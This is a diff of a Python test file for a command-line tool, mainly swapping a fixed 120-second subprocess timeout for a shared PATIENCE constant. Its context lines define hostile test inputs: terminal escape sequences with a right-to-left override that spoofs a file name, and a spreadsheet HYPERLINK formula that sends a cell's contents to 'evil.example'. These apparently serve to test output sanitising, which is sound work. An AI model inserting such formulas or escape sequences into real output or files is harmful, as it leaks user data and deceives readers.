@@ -11,6 +11,7 @@ from sqlalchemy import text
 from tests.conftest import Cluster
 from tests.fake_worker import describe_command
 from tests.jobs import add_jobs
+from tests.processes import PATIENCE
 
 ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202etxt.exe"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1)'
@@ -32,7 +33,7 @@ def run_command(cluster: Cluster, *words: str) -> str:
     command = describe_command(
         "-m", "gistmill", *words, database_url=cluster.database_url, broker_url=cluster.broker_url
     )
-    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=120).stdout
+    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=PATIENCE).stdout
 
 
 @pytest.mark.parametrize("words", [["status"], ["results"], ["show"]], ids=lambda words: words[0])
